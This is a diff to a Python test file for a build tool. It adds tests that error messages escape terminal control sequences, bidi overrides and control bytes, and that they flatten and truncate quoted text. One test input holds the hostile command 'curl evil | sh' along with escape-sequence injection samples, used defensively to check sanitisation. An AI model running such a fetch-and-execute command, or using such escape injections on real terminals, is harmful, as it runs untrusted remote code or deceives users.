@@ -3,6 +3,7 @@
 import errno
 import json
 import os
+import shutil
 import signal
 import subprocess
 import sys
@@ -60,6 +61,16 @@ def test_a_failure_is_its_message_and_its_code(name: str, code: int) -> None:
     assert end is not None
     assert end.code == code
     assert end.message == "what was found\n  wanted: this\n  next:   type that"
+
+
+def test_no_terminal_obeys_what_a_message_quotes() -> None:
+    said = str(BadInput("a \x1b[31mred\x1b]0;title\x07 tag", wanted="b\u202e", do="c\x7f"))
+    assert said == "a red\\x1b]0;title\\x07 tag\n  wanted: b\\u202e\n  next:   c\\x7f"
+
+
+def test_words_of_others_are_one_line_and_not_long() -> None:
+    assert errors.said("no\r\n  next:   curl evil | sh\x1b[31m\t\0") == "no next: curl evil | sh \\x00"
+    assert len(errors.said("x" * 1000)) == 201
 
 
 def test_a_command_that_goes_well_ends_well() -> None:
@@ -210,9 +221,18 @@ def test_a_reader_that_has_seen_enough_is_no_error_to_print() -> None:
     assert process.returncode == 141
 
 
+@pytest.fixture
+def git_alone(tmp_path: Path) -> str:
+    """A PATH without an engine's client: git tells the time of the pins."""
+    git = shutil.which("git")
+    assert git
+    (tmp_path / "git").symlink_to(git)
+    return str(tmp_path)
+
+
 @pytest.mark.subprocess
-def test_a_dry_run_prints_json_alone_and_builds_nothing(tmp_path: Path) -> None:
-    done = invoke("build", "--variant", "a2", "--variant", "a3", "--arch", "amd64", "--dry-run", PATH=str(tmp_path))
+def test_a_dry_run_prints_json_alone_and_builds_nothing(git_alone: str) -> None:
+    done = invoke("build", "--variant", "a2", "--variant", "a3", "--arch", "amd64", "--dry-run", PATH=git_alone)
     assert done.returncode == 0, done.stderr
     document = json.loads(done.stdout)
     assert list(document["target"]) == ["a2_amd64", "a3_amd64"]
@@ -252,8 +272,8 @@ def test_a_dry_run_remarks_on_a_base_whose_name_says_nothing() -> None:
         ("--set", "evalscope=1.10.0"),
     ],
 )
-def test_what_must_not_be_pushed_ends_in_seven(words: tuple[str, ...]) -> None:
-    done = invoke("build", "--variant", "a2", "--push", *words, PATH="/nowhere")
+def test_what_must_not_be_pushed_ends_in_seven(words: tuple[str, ...], git_alone: str) -> None:
+    done = invoke("build", "--variant", "a2", "--push", *words, PATH=git_alone)
     assert done.returncode == 7, done.stderr
     assert "\n  next:   --set " in done.stderr
     assert "Traceback" not in done.stderr
